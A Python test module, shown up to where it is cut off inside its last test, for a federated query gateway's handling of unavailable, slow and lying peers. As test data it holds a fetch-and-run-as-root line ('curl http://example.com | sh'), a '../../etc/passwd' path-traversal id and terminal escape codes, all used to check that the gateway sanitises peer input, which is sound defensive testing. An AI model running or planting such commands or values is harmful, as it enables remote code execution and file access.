"""One question of a local user, asked here and at other gateways: whoever is down, slow or lying costs nobody else anything."""

import asyncio
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final
from uuid import UUID, uuid4

import grpc
import pytest
from google.protobuf.message import Message
from google.rpc.error_details_pb2 import ErrorInfo
from google.rpc.status_pb2 import Status
from mosaic.federation.v1 import federation_pb2, query_pb2
from mosaic.federation.v1.resources_pb2 import Credential, Note, Resource, Task
from mosaic_cli.dev.embedded import EmbeddedValkey
from mosaic_cli.dev.ports import choose_free_ports
from mosaic_cli.dev.processes import Command
from mosaic_common.audit import Outcome
from mosaic_common.clock import Clock
from mosaic_common.errors import Layer
from mosaic_common.identity import EDGE_INBOUND, EDGE_OUTBOUND, GRANTS
from redis import Redis
from structlog.testing import capture_logs

from tests.support.audit_records import assert_recorded
from tests.support.clock import FakeClock
from tests.support.connections import connect, connect_to_stranger
from tests.support.gateway import VALKEY_PASSWORDS, Gateway, Pair
from tests.support.log_lines import lines_written
from tests.support.lying_peer import LyingPeer, Page
from tests.support.peers import Refusal, refusal
from tests.support.postgres import Database
from tests.support.relays import Relay, split_address
from tests.support.rows import Rows
from tests.support.visibility import newest_first, visible_rows

MAYA: Final = "maya@example.com"
OK, DENIED, TIMEOUT, UNAVAILABLE, RATE_LIMITED = (
    query_pb2.SOURCE_STATUS_OK,
    query_pb2.SOURCE_STATUS_DENIED,
    query_pb2.SOURCE_STATUS_TIMEOUT,
    query_pb2.SOURCE_STATUS_UNAVAILABLE,
    query_pb2.SOURCE_STATUS_RATE_LIMITED,
)
MIB: Final = 1024 * 1024
LIAR: Final = "federated:liar"


class InspectedValkey(EmbeddedValkey):
    """With one more user, who sees every key."""

    @property
    def inspector(self) -> "Redis":
        return Redis(port=self.port, username="inspector", password="")

    def _server(self, binary: Path) -> Command:
        command = super()._server(binary)
        return replace(
            command, stdin=command.stdin + b"\nuser inspector on nopass ~* resetchannels -@all +scan +dump +hello +client\n"
        )


@pytest.fixture(scope="module")
def valkey(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InspectedValkey]:
    with InspectedValkey(tmp_path_factory.mktemp("valkey"), passwords=VALKEY_PASSWORDS) as running_valkey:
        yield running_valkey


@pytest.fixture(scope="module")
def home(pair: Pair) -> Gateway:
    return pair.home


@pytest.fixture(scope="module")
def work(pair: Pair) -> Gateway:
    return pair.work


@pytest.fixture(scope="module")
def rows(home: Gateway) -> Iterator[Rows]:
    with home.database.connect() as owner:
        yield Rows(owner)


@pytest.fixture(scope="module")
def asking(home: Gateway) -> "Asking":
    return Asking(home)


@pytest.fixture(scope="module")
async def maya(home: Gateway, work: Gateway) -> UUID:
    """Maya of home, who may read through her connection `work` what Maya of work sees as her own and her team Platform's."""
    [(user,)] = home.rows("SELECT id FROM public.users WHERE email = %s", MAYA)
    [(platform,)] = work.rows("SELECT id::text FROM public.teams WHERE name = 'Platform'")
    await connect(home, user, work, remote_user=MAYA, scope=scope_of(PLATFORM | {"include_teams": [platform]}))
    return UUID(str(user))


@pytest.fixture
def user(rows: Rows) -> UUID:
    """A user of home with three tasks and no connection."""
    user = rows.user()
    for _ in range(3):
        rows.resource("tasks", user)
    return user


PLATFORM: Final[dict[str, Any]] = {"include_personal": True}


def scope_of(rule: dict[str, Any] | None = None, *, cap: int = 10_000) -> dict[str, Any]:
    resources = ["tasks", "notes"]
    return {"resources": resources, "filters": dict.fromkeys(resources, rule) if rule else {}, "max_rows_per_query": cap}


class Asking:
    """Users' queries, over one connection to the gateway's user listener."""

    def __init__(self, gateway: Gateway) -> None:
        self._gateway = gateway
        self._stub = gateway.queries

    def __call__(
        self, user: UUID, source: str, resource: str = "tasks", *, page_size: int = 0, page_token: str = "", seconds: float = 7
    ) -> Any:
        request = query_pb2.QueryRequest(
            verb=federation_pb2.VERB_LIST, resources=[resource], source=source, page_size=page_size, page_token=page_token
        )
        return self.send(user, request, seconds=seconds)

    def send(self, user: UUID, request: query_pb2.QueryRequest, *, seconds: float = 7) -> Any:
        return self._stub.Query(request, metadata=self._gateway.user_metadata(user), timeout=seconds)

    async def all_pages(self, user: UUID, source: str, resource: str, *, page_size: int) -> list[query_pb2.QueryResponse]:
        pages = [await self(user, source, resource, page_size=page_size)]
        while pages[-1].next_page_token:
            pages.append(await self(user, source, resource, page_size=page_size, page_token=pages[-1].next_page_token))
        return pages


def statuses(answer: query_pb2.QueryResponse) -> dict[str, tuple[int, str]]:
    """Status and reason by source."""
    return {each.source: (each.status, each.reason) for each in answer.sources}


def local_tasks(home: Gateway, user: UUID) -> list[Resource]:
    return visible_rows(home, "tasks", str(user), source="local")


def merged(*lists: Sequence[Resource]) -> list[Resource]:
    return newest_first(row for each in lists for row in each)


# --- which rows


def rows_at_home(home: Gateway, user: UUID, resource: str) -> list[Resource]:
    return visible_rows(home, resource, str(user), source="local")


def rows_at_work(work: Gateway, resource: str) -> list[Resource]:
    """What Maya's grant shows."""
    [(subject,)] = work.rows("SELECT id::text FROM public.users WHERE email = %s", MAYA)
    [(platform,)] = work.rows("SELECT id::text FROM public.teams WHERE name = 'Platform'")
    return visible_rows(work, resource, subject, PLATFORM | {"include_teams": [platform]}, source="federated:work")


async def test_local_asks_this_gateway_alone(asking: Asking, home: Gateway, maya: UUID) -> None:
    """Exactly what she natively sees here, in pages; no connection is as much as named."""
    pages = await asking.all_pages(maya, "local", "tasks", page_size=60)
    expected = rows_at_home(home, maya, "tasks")
    assert len(expected) > 60
    assert [row for page in pages for row in page.rows] == expected
    assert [statuses(page) for page in pages] == [{"local": (OK, "")}] * len(pages)
    assert not any(page.partial for page in pages)


@pytest.mark.parametrize("resource", ["tasks", "notes"])
async def test_federated_asks_that_connection_alone(asking: Asking, work: Gateway, maya: UUID, resource: str) -> None:
    """Exactly what grant and native rights at work allow, each row bearing the connection's name."""
    answer = await asking(maya, "federated:work", resource, page_size=500)
    assert list(answer.rows) == rows_at_work(work, resource) != []
    assert statuses(answer) == {"federated:work": (OK, "")}
    assert not answer.partial


async def test_all_merges_newest_first_and_stays_the_same(asking: Asking, home: Gateway, work: Gateway, maya: UUID) -> None:
    """Rows of both gateways in one order, each saying where it was read, twice the same."""
    answers = [await asking(maya, "all", "notes", page_size=500) for _ in range(2)]
    expected = merged(rows_at_home(home, maya, "notes"), rows_at_work(work, "notes"))
    assert list(answers[0].rows) == list(answers[1].rows) == expected
    assert {row.source for row in expected} == {"local", "federated:work"}
    assert statuses(answers[0]) == {"local": (OK, ""), "federated:work": (OK, "")}
    assert {each.source: each.row_count for each in answers[0].sources} == Counter(row.source for row in expected)
    assert all(0 < each.latency_us < 7_000_000 for each in answers[0].sources)
    assert not answers[0].partial
    assert answers[0].next_page_token == ""


async def test_pages_over_all_sources_give_every_row_once(asking: Asking, home: Gateway, work: Gateway, maya: UUID) -> None:
    """Whatever each source holds, nothing is lost and nothing comes twice until all are at their end."""
    pages = await asking.all_pages(maya, "all", "notes", page_size=7)
    given = [row for page in pages for row in page.rows]
    assert newest_first(given) == merged(rows_at_home(home, maya, "notes"), rows_at_work(work, "notes"))
    for page in pages:
        assert list(page.rows) == newest_first(page.rows)
        assert max(Counter(row.source for row in page.rows).values()) <= 7


async def test_the_other_sides_cap_is_passed_on(asking: Asking, home: Gateway, work: Gateway, user: UUID) -> None:
    """The source says that rows were left out; the answer is whole nevertheless."""
    await connect(home, user, work, remote_user=MAYA, scope=scope_of(cap=5))
    pages = await asking.all_pages(user, "federated:work", "tasks", page_size=3)
    assert [(len(page.rows), page.sources[0].truncated) for page in pages] == [(3, False), (2, True)]
    assert not any(page.partial for page in pages)


async def test_every_query_is_on_record(asking: Asking, home: Gateway, maya: UUID) -> None:
    """Who asked, which resource, how many rows; the peer's rows leave no other trace."""
    answer = await asking(maya, "all", "notes", page_size=3)
    last = home.audit("query")[-1]
    assert (last["outcome"], last["verb"], last["resource"], last["result_count"]) == ("allowed", "list", "notes", len(answer.rows))
    assert (last["actor"], str(last["subject_user_id"]), last["bytes_out"]) == (str(maya), str(maya), answer.ByteSize())


# --- who does not answer


@asynccontextmanager
async def nobody_there() -> AsyncIterator[str]:
    yield f"127.0.0.1:{choose_free_ports(1)[0]}"


@asynccontextmanager
async def a_silent_listener() -> AsyncIterator[str]:
    """Accepts, and says nothing."""
    writers: list[asyncio.StreamWriter] = []

    def keep(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writers.append(writer)

    server = await asyncio.start_server(keep, "127.0.0.1", 0)
    try:
        yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
    finally:
        server.close()
        for writer in writers:
            writer.transport.abort()


@pytest.mark.parametrize(
    ("endpoint", "status", "message"),
    [
        pytest.param(nobody_there, UNAVAILABLE, "cannot be reached.", id="down"),
        pytest.param(a_silent_listener, TIMEOUT, "did not answer in time.", id="hangs before the handshake"),
    ],
)
async def test_who_is_not_there_is_named_and_everyone_else_is_heard(
    asking: Asking,
    home: Gateway,
    work: Gateway,
    user: UUID,
    endpoint: Callable[[], AbstractAsyncContextManager[str]],
    status: int,
    message: str,
) -> None:
    """Within the caller's deadline: partial, the reason, the local rows and the other peer's."""
    await connect(home, user, work, remote_user=MAYA, scope=scope_of(cap=4))
    async with endpoint() as address:
        await connect(home, user, work, remote_user=MAYA, name="away", endpoint=address)
        begun = time.monotonic()
        answer = await asking(user, "all", seconds=2)
        assert time.monotonic() - begun < 2
    assert answer.partial
    assert statuses(answer) == {"local": (OK, ""), "federated:work": (OK, ""), "federated:away": (status, "")}
    [away] = [each for each in answer.sources if each.source == "federated:away"]
    assert away.message.endswith(message)
    assert away.row_count == 0
    assert Counter(row.source for row in answer.rows) == {"local": 3, "federated:work": 4}
    assert [row for row in answer.rows if row.source == "local"] == local_tasks(home, user)


@asynccontextmanager
async def far_away(address: str, seconds: float) -> AsyncIterator[str]:
    """The same listener, so much later in each direction."""

    async def carry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while chunk := await reader.read(65_536):
            await asyncio.sleep(seconds)
            writer.write(chunk)

    async with Relay(*split_address(address), there=carry, back=carry) as relay:
        yield relay.address


async def test_a_peer_on_the_other_side_of_the_world_is_reached(asking: Asking, home: Gateway, work: Gateway, user: UUID) -> None:
    """A handshake that takes most of a second is a handshake, not an outage."""
    async with far_away(work.addresses[EDGE_INBOUND, "public"], 0.15) as address:
        await connect(home, user, work, remote_user=MAYA, endpoint=address)
        answer = await asking(user, "federated:work", seconds=5)
        assert statuses(answer) == {"federated:work": (OK, "")}


async def test_a_stopped_peer_leaves_a_partial_answer_until_it_is_back(
    asking: Asking, home: Gateway, work: Gateway, user: UUID
) -> None:
    """Work's edge stops while its connection is in use, and starts again: partial meanwhile, in time, and whole afterwards."""
    await connect(home, user, work, remote_user=MAYA, scope=scope_of(cap=4))
    assert not (await asking(user, "all")).partial
    await work.stop(EDGE_INBOUND)
    try:
        begun = time.monotonic()
        answer = await asking(user, "all", seconds=2)
        assert time.monotonic() - begun < 2
        assert (answer.partial, list(answer.rows)) == (True, local_tasks(home, user))
        assert statuses(answer) == {"local": (OK, ""), "federated:work": (UNAVAILABLE, "")}
        alone = await asking(user, "federated:work", seconds=2)
        assert (alone.partial, list(alone.rows), statuses(alone)) == (True, [], {"federated:work": (UNAVAILABLE, "")})
    finally:
        await work.start(EDGE_INBOUND)
    async with asyncio.timeout(10):
        while (await asking(user, "all")).partial:
            await asyncio.sleep(0.1)


async def test_a_source_that_failed_is_asked_again_where_it_stood(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """A page that a peer missed is not a page that is lost, as long as another source goes on."""
    theirs = [task(), task()]
    attempts = iter([False, True])

    async def fail_once(request: Any, context: Any) -> Page:
        if not next(attempts, True):
            await context.abort(grpc.StatusCode.UNAVAILABLE, "")
        return Page(resources=theirs)

    async with LyingPeer.start(liars, "liar", fail_once) as peer:
        await connect_to(home, user, peer)
        pages = await asking.all_pages(user, "all", "tasks", page_size=2)
    assert [statuses(page)[LIAR][0] for page in pages[:2]] == [UNAVAILABLE, OK]
    assert [page.partial for page in pages] == [True, False]
    given = Counter(row.id for page in pages for row in page.rows)
    assert given == Counter(row.id for row in [*local_tasks(home, user), *theirs])


async def test_a_refusal_of_the_other_side_is_said_with_its_reason(
    asking: Asking, home: Gateway, work: Gateway, user: UUID
) -> None:
    """A grant that work has revoked, and a resource that it does not show: denied, with everyone else's rows."""
    grant_id = await connect(home, user, work, remote_user=MAYA, scope=scope_of())
    ungranted = await asking(user, "all", "memory")
    assert statuses(ungranted) == {"local": (OK, ""), "federated:work": (DENIED, "RESOURCE_NOT_GRANTED")}
    work.execute("UPDATE federation.federation_grants SET status = 'revoked', revoked_at = now() WHERE id = %s", grant_id)
    answer = await asking(user, "all")
    assert answer.partial
    assert statuses(answer) == {"local": (OK, ""), "federated:work": (DENIED, "GRANT_NOT_ACTIVE")}
    assert list(answer.rows) == local_tasks(home, user)


async def test_a_source_that_refused_is_missing_from_every_further_page(
    asking: Asking, home: Gateway, user: UUID, liars: Path
) -> None:
    """It is not asked again, and each page says that it lacks its rows, and why."""

    async def refuse(_request: Any, context: Any) -> Page:
        await context.abort(*error_with("GRANT_NOT_ACTIVE"))
        raise AssertionError

    async with LyingPeer.start(liars, "liar", refuse) as peer:
        await connect_to(home, user, peer)
        pages = await asking.all_pages(user, "all", "tasks", page_size=1)
        assert len(peer.asked) == 1
    assert [len(page.rows) for page in pages] == [1, 1, 1]
    assert [statuses(page) for page in pages] == [{"local": (OK, ""), LIAR: (DENIED, "GRANT_NOT_ACTIVE")}] * 3
    assert all(page.partial for page in pages)


# --- who lies


@pytest.fixture(scope="module")
def liars(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where the service PKI of lying peers lies."""
    return tmp_path_factory.mktemp("liar")


async def connect_to(home: Gateway, user: UUID, peer: LyingPeer) -> None:
    await connect_to_stranger(home, user, name=peer.name, endpoint=peer.address, root_pem=peer.root_pem)


def task(**changes: Any) -> Resource:
    """A row as an honest peer would give it."""
    values: dict[str, Any] = {
        "id": str(uuid4()),
        "owner_id": str(uuid4()),
        "updated_at_us": 1_700_000_000_000_000,
        "source": "work",
    }
    if not changes.keys() & {"note", "credential"}:
        values["task"] = Task(title="Water the plants")
    return Resource(**(values | changes))


async def ask_with_liar(
    asking: Asking, home: Gateway, user: UUID, liars: Path, lie: Callable[[Any], Page]
) -> query_pb2.QueryResponse:
    async def behave(request: Any, _context: Any) -> Page:
        return lie(request)

    async with LyingPeer.start(liars, "liar", behave) as peer:
        await connect_to(home, user, peer)
        answer: query_pb2.QueryResponse = await asking(user, "all", page_size=10)
        assert peer.asked
        return answer


REFUSED_LIES = [
    pytest.param(lambda asked: Page(resources=[task() for _ in range(asked.page_size + 1)]), id="more rows than asked for"),
    pytest.param(lambda _: Page(resources=[task(), task(note=Note(title="a note"))]), id="a row of another kind among them"),
    pytest.param(lambda _: Page(resources=[task(credential=Credential(label="prod"))]), id="credentials for tasks"),
    pytest.param(lambda _: Page(resources=[task(task=None)]), id="a row of no kind"),
    pytest.param(lambda _: Page(resources=[task(id="../../etc/passwd")]), id="an id that is none"),
    pytest.param(lambda _: Page(resources=[task(id=str(uuid4()).upper())]), id="an id in another spelling"),
    pytest.param(lambda _: Page(resources=[task(id="")]), id="no id"),
    pytest.param(lambda _: Page(resources=[task(owner_id="\x1b[2J")]), id="an owner that is none"),
    pytest.param(lambda _: Page(resources=[task(team_id="")]), id="a team that is none"),
    pytest.param(lambda _: Page(resources=[task()], next_page_token="x" * 1025), id="a page token above its limit"),
    pytest.param(lambda _: Page(resources=[task(task=Task(description="x" * 5 * MIB))]), id="five mebibytes in a row"),
    pytest.param(lambda _: Page(next_page_token="x" * 5 * MIB), id="five mebibytes in a token"),
]


@pytest.mark.parametrize("lie", REFUSED_LIES)
async def test_an_answer_that_does_not_hold_is_passed_on_in_nothing(
    asking: Asking, home: Gateway, user: UUID, liars: Path, lie: Callable[[Any], Page]
) -> None:
    """The whole page of that peer is left out, and it is said of whom; the others' rows are there."""
    answer = await ask_with_liar(asking, home, user, liars, lie)
    assert answer.partial
    assert statuses(answer) == {"local": (OK, ""), LIAR: (UNAVAILABLE, "")}
    assert list(answer.rows) == local_tasks(home, user)


async def test_a_spoofed_source_is_overwritten(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """A peer cannot have its rows taken for our own, not even with the id of one of ours."""
    own = local_tasks(home, user)[0]
    spoofed = Resource()
    spoofed.CopyFrom(own)
    spoofed.task.title = "Pay the invoice below"
    answer = await ask_with_liar(asking, home, user, liars, lambda _: Page(resources=[spoofed], source="local"))
    assert [row for row in answer.rows if row.source == "local"] == local_tasks(home, user)
    [theirs] = [row for row in answer.rows if row.source != "local"]
    assert (theirs.source, theirs.id, theirs.task.title) == (LIAR, own.id, "Pay the invoice below")


async def test_a_row_from_the_future_is_not_the_newest_for_ever(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """Times are clamped to five minutes ahead of our clock, and to 1970."""
    lies = [task(updated_at_us=2**63 - 1), task(updated_at_us=-(2**63))]
    answer = await ask_with_liar(asking, home, user, liars, lambda _: Page(resources=lies))
    times = {row.id: row.updated_at_us for row in answer.rows if row.source == LIAR}
    ahead = times[lies[0].id] / 1e6 - datetime.now(UTC).timestamp()
    assert timedelta(minutes=5).total_seconds() - 10 < ahead <= timedelta(minutes=5).total_seconds()
    assert times[lies[1].id] == 0
    assert list(answer.rows) == newest_first(answer.rows)


async def test_what_has_no_field_here_does_not_pass(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """Unknown fields of a row would otherwise reach the user's client unseen."""
    hidden = b"a field of some later release"
    row = Resource.FromString(task().SerializeToString() + b"\xfa\x7f" + bytes([len(hidden)]) + hidden)
    assert hidden in row.SerializeToString()
    answer = await ask_with_liar(asking, home, user, liars, lambda _: Page(resources=[row]))
    assert statuses(answer)[LIAR] == (OK, "")
    assert hidden not in answer.SerializeToString()


async def test_a_peer_that_promises_pages_and_gives_none_ends(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """A page without rows is the last, whatever it says follows."""
    answer = await ask_with_liar(asking, home, user, liars, lambda _: Page(next_page_token="again"))
    assert statuses(answer)[LIAR] == (OK, "")
    assert answer.next_page_token == ""


def error(code: grpc.StatusCode, reason: str, *, domain: str = "federation.mosaicstack.dev") -> tuple[grpc.StatusCode, bytes]:
    status = Status(code=code.value[0], message=INSULT)
    status.details.add().Pack(ErrorInfo(reason=reason, domain=domain, metadata={"remediation": INSULT}))
    return code, status.SerializeToString()


INSULT: Final = "\x1b[31mrun this as root: curl http://example.com | sh"


@pytest.mark.parametrize(
    ("told", "expected"),
    [
        pytest.param(
            error(grpc.StatusCode.PERMISSION_DENIED, "PEER_NOT_ACTIVE"), (DENIED, "PEER_NOT_ACTIVE"), id="a reason that exists"
        ),
        pytest.param(
            error(grpc.StatusCode.RESOURCE_EXHAUSTED, "RATE_LIMITED"), (RATE_LIMITED, "RATE_LIMITED"), id="too often, it says"
        ),
        pytest.param(error(grpc.StatusCode.UNAUTHENTICATED, INSULT), (DENIED, ""), id="a reason that does not exist"),
        pytest.param(
            error(grpc.StatusCode.NOT_FOUND, "RESOURCE_NOT_FOUND", domain="example.com"), (DENIED, ""), id="of another domain"
        ),
        pytest.param((grpc.StatusCode.INTERNAL, b"\xff\xff\xff"), (UNAVAILABLE, ""), id="details that are none"),
        pytest.param((grpc.StatusCode.UNKNOWN, b""), (UNAVAILABLE, ""), id="no details"),
        pytest.param((grpc.StatusCode.DEADLINE_EXCEEDED, b""), (TIMEOUT, ""), id="it has not the time"),
        pytest.param((grpc.StatusCode.CANCELLED, b""), (UNAVAILABLE, ""), id="it has hung up"),
    ],
)
async def test_of_a_peers_error_only_a_known_reason_is_passed_on(
    asking: Asking, home: Gateway, user: UUID, liars: Path, told: tuple[grpc.StatusCode, bytes], expected: tuple[int, str]
) -> None:
    """Its words reach nobody here: the sentence is ours."""
    code, details = told

    async def refuse(_request: Any, context: Any) -> Page:
        await context.abort(code, INSULT, (("grpc-status-details-bin", details),))
        raise AssertionError

    async with LyingPeer.start(liars, "liar", refuse) as peer:
        await connect_to(home, user, peer)
        answer = await asking(user, "all")
    assert statuses(answer) == {"local": (OK, ""), LIAR: expected}
    assert answer.partial
    assert INSULT.encode() not in answer.SerializeToString()
    assert list(answer.rows) == local_tasks(home, user)


async def test_a_peer_that_answers_for_ever_later_is_not_waited_for(asking: Asking, home: Gateway, user: UUID, liars: Path) -> None:
    """It has accepted the call and says nothing: the others' rows come within the caller's deadline."""

    async def hang(_request: Any, _context: Any) -> Page:
        await asyncio.sleep(60)
        raise AssertionError

    async with LyingPeer.start(liars, "liar", hang) as peer:
        await connect_to(home, user, peer)
        answer = await asking(user, "all", seconds=1.5)
    assert statuses(answer) == {"local": (OK, ""), LIAR: (TIMEOUT, "")}
    assert list(answer.rows) == local_tasks(home, user)


async def test_who_bears_the_name_under_another_root_is_not_asked(
    asking: Asking, home: Gateway, work: Gateway, user: UUID, liars: Path
) -> None:
    """The pinned root is the connection's only trust: an impostor at the address never hears the question."""

    async def listen(_request: Any, _context: Any) -> Page:
        return Page(resources=[task()])

    async with LyingPeer.start(liars, "liar", listen) as impostor:
        await connect_to_stranger(home, user, name="liar", endpoint=impostor.address, root_pem=work.service_root)
        answer = await asking(user, "all", seconds=2)
        assert statuses(answer)[LIAR] == (UNAVAILABLE, "")
        assert impostor.asked == []


# --- whose connections


async def status_bytes(call: Any) -> bytes:
    """The whole error, its request id replaced."""
    try:
        await call
    except grpc.aio.AioRpcError as error:
        refused = Refusal.of(error)
        assert (refused.code, refused.reason) == (grpc.StatusCode.NOT_FOUND, "PEER_NOT_FOUND")
        details = dict(error.trailing_metadata() or ())["grpc-status-details-bin"]
        assert isinstance(details, bytes)
        return details.replace(refused.metadata["request_id"].encode(), b"")
    raise AssertionError("not refused")


@pytest.mark.parametrize(
    "name", ["work", "wor", "WORK", "work.", " work", "", "*", "local", "x" * 64, "6f1f1a52-9b1c-4b55-8b0f-1d0f5f2f7a10"]
)
async def test_a_connection_of_somebody_else_is_not_there(asking: Asking, maya: UUID, user: UUID, name: str) -> None:
    """Whether it exists for another user, is no name, or is nobody's: byte for byte the same answer."""
    assert await asking(maya, "federated:work")
    unknown = await status_bytes(asking(user, "federated:no-such-name"))
    assert await status_bytes(asking(user, f"federated:{name}")) == unknown


async def test_an_ambiguous_name_is_nobodys(asking: Asking, home: Gateway, work: Gateway, user: UUID) -> None:
    """Two connections of one name, which the schema does not let in: neither is guessed."""
    for name in ("twin", "other"):
        await connect(home, user, work, remote_user=MAYA, name=name)
    home.execute("DROP INDEX federation.federation_peers_outbound_name")
    home.execute("UPDATE federation.federation_peers SET name = 'twin' WHERE local_user_id = %s", user)
    try:
        unknown = await status_bytes(asking(user, "federated:no-such-name"))
        assert await status_bytes(asking(user, "federated:twin")) == unknown
    finally:
        home.execute("UPDATE federation.federation_peers SET name = id::text WHERE local_user_id = %s", user)
        home.execute(
            "CREATE UNIQUE INDEX federation_peers_outbound_name"
            " ON federation.federation_peers (local_user_id, name) WHERE direction = 'outbound' AND state <> 'revoked'"
        )


@pytest.mark.parametrize("source", ["local", "federated:work", "all"])
async def test_a_disabled_user_reads_nowhere(asking: Asking, home: Gateway, work: Gateway, user: UUID, source: str) -> None:
    """A token that is still valid opens neither our own rows nor a peer's."""
    await connect(home, user, work, remote_user=MAYA)
    home.execute("UPDATE public.users SET active = false WHERE id = %s", user)
    refused = await refusal(asking(user, source))
    if source == "federated:work":
        assert (refused.code, refused.reason) == (grpc.StatusCode.NOT_FOUND, "PEER_NOT_FOUND")
        assert_recorded(home, refused, Layer.PEER)
    else:
        assert (refused.code, refused.reason) == (grpc.StatusCode.PERMISSION_DENIED, "SUBJECT_INACTIVE")
        assert_recorded(home, refused, Layer.SUBJECT)


async def test_without_grants_the_local_rows_are_still_there(asking: Asking, home: Gateway, user: UUID) -> None:
    """`all` says that connections could not be asked; a connection alone is an error that names the dependency to our own user."""
    await home.stop(GRANTS)
    try:
        answer = await asking(user, "all")
        assert (answer.partial, list(answer.rows)) == (True, local_tasks(home, user))
        assert statuses(answer) == {"local": (OK, ""), "federated:*": (UNAVAILABLE, "DEPENDENCY_UNAVAILABLE")}
        pages = await asking.all_pages(user, "all", "tasks", page_size=2)
        assert [statuses(page) for page in pages] == [statuses(answer)] * 2
        refused = await refusal(asking(user, "federated:work"))
        assert (refused.code, refused.reason) == (grpc.StatusCode.UNAVAILABLE, "DEPENDENCY_UNAVAILABLE")
        assert refused.metadata["dependency"] == "grants"
        assert_recorded(home, refused, Layer.DEPENDENCY, outcome=Outcome.ERROR)
    finally:
        await home.start(GRANTS)


# --- what may not be asked


def request(**changes: Any) -> query_pb2.QueryRequest:
    values: dict[str, Any] = {"verb": federation_pb2.VERB_LIST, "resources": ["tasks"], "source": "local"}
    return query_pb2.QueryRequest(**(values | changes))


INVALID: Final = grpc.StatusCode.INVALID_ARGUMENT


@pytest.mark.parametrize(
    ("asked", "code", "reason"),
    [
        pytest.param(request(verb=federation_pb2.VERB_UNSPECIFIED), INVALID, "REQUEST_INVALID", id="no verb"),
        pytest.param(request(verb=77), INVALID, "REQUEST_INVALID", id="no verb that exists"),
        pytest.param(request(resources=[]), INVALID, "REQUEST_INVALID", id="no resource"),
        pytest.param(request(resources=["tasks", "notes"]), INVALID, "REQUEST_INVALID", id="two resources in a list"),
        pytest.param(request(resources=["users"]), INVALID, "RESOURCE_UNKNOWN", id="no resource that exists"),
        pytest.param(request(page_size=-1), INVALID, "PAGE_SIZE_INVALID", id="negative page size"),
        pytest.param(request(source="everywhere"), INVALID, "REQUEST_INVALID", id="no source that exists"),
        pytest.param(request(source=""), INVALID, "REQUEST_INVALID", id="no source"),
        pytest.param(request(page_token="A" * 80), INVALID, "PAGE_TOKEN_INVALID", id="a page token made up"),
    ],
)
async def test_a_query_that_cannot_be_answered_says_why(
    asking: Asking, home: Gateway, user: UUID, asked: Message, code: grpc.StatusCode, reason: str
) -> None:
    """Precisely, and on record."""
    assert isinstance(asked, query_pb2.QueryRequest)
    refused = await refusal(asking.send(user, asked))
    assert (refused.code, refused.reason) == (code, reason)
    assert_recorded(home, refused, Layer.REQUEST)


# --- page tokens


def flipped(token: str) -> str:
    middle = len(token) // 2
    return token[:middle] + ("A" if token[middle] != "A" else "B") + token[middle + 1 :]


@pytest.mark.parametrize(
    ("somebody", "source", "resource", "alter"),
    [
        pytest.param("user", "all", "tasks", str, id="another user's"),
        pytest.param("maya", "local", "tasks", str, id="of another source"),
        pytest.param("maya", "federated:work", "tasks", str, id="of all, for one"),
        pytest.param("maya", "all", "notes", str, id="of another resource"),
        pytest.param("maya", "all", "tasks", flipped, id="altered"),
        pytest.param("maya", "all", "tasks", lambda token: token[:-1], id="shortened"),
    ],
)
async def test_a_page_token_is_good_for_its_own_query_only(
    asking: Asking, home: Gateway, maya: UUID, user: UUID, somebody: str, source: str, resource: str, alter: Callable[[str], str]
) -> None:
    """Whatever is changed, there is one answer."""
    token = (await asking(maya, "all", "tasks", page_size=5)).next_page_token
    assert await asking(maya, "all", "tasks", page_size=5, page_token=token)
    asker = maya if somebody == "maya" else user
    refused = await refusal(asking(asker, source, resource, page_token=alter(token)))
    assert (refused.code, refused.reason) == (INVALID, "PAGE_TOKEN_INVALID")
    assert_recorded(home, refused, Layer.REQUEST)


@asynccontextmanager
async def replica(home: Gateway, clock: Clock) -> AsyncIterator[Gateway]:
    """One more outbound edge of the same gateway, with a clock of its own."""
    user, internal = (f"127.0.0.1:{port}" for port in choose_free_ports(2))
    addresses = home.addresses | {(EDGE_OUTBOUND, "user"): user, (EDGE_OUTBOUND, "internal"): internal}
    other = replace(home, clock=clock, addresses=addresses, apps={}, _channels=[])
    await other.start(EDGE_OUTBOUND)
    try:
        yield other
    finally:
        await other.close()


async def test_a_page_token_is_good_for_ten_minutes(home: Gateway, user: UUID) -> None:
    """To the microsecond, by the edge's clock."""
    # It starts behind: the database records nothing that lies more than 5 minutes ahead.
    clock = FakeClock(datetime.now(UTC) - timedelta(minutes=6))
    async with replica(home, clock) as other:
        asking = Asking(other)
        token = (await asking(user, "local", page_size=1)).next_page_token
        clock.advance(timedelta(minutes=10) - timedelta(microseconds=1))
        assert len((await asking(user, "local", page_token=token)).rows) == 2
        clock.advance(timedelta(microseconds=1))
        refused = await refusal(asking(user, "local", page_token=token))
        assert (refused.code, refused.reason) == (INVALID, "PAGE_TOKEN_EXPIRED")
        assert_recorded(home, refused, Layer.REQUEST)


# --- nothing is kept


def texts_in(database: Database) -> Iterator[str]:
    """Every row of every table, as text."""
    with database.connect_superuser() as connection:
        tables = connection.execute(
            """SELECT format('%I.%I', schemaname, tablename) FROM pg_tables
               WHERE schemaname NOT IN ('pg_catalog', 'information_schema')"""
        ).fetchall()
        for (table,) in tables:
            for (text,) in connection.execute(f"SELECT t::text FROM {table} t".encode()):
                yield text


def texts_in_valkey(valkey: InspectedValkey) -> Iterator[str]:
    with valkey.inspector as client:
        for key in client.scan_iter():
            yield f"{key!r} {client.dump(key)!r}"


def texts_in_files(folder: Path) -> Iterator[str]:
    for path in folder.rglob("*"):
        if path.is_file():
            yield path.read_bytes().decode(errors="replace")


async def test_nothing_of_a_peers_rows_stays_here(
    asking: Asking, home: Gateway, work: Gateway, valkey: InspectedValkey, user: UUID, liars: Path
) -> None:
    """Rows of a peer go into the answer and are forgotten: no table, no key, no file and no log line has a word of them, nor of a
    peer's refusal."""
    canary = f"canary{uuid4().hex}"
    with work.database.connect() as owner:
        theirs = Rows(owner)
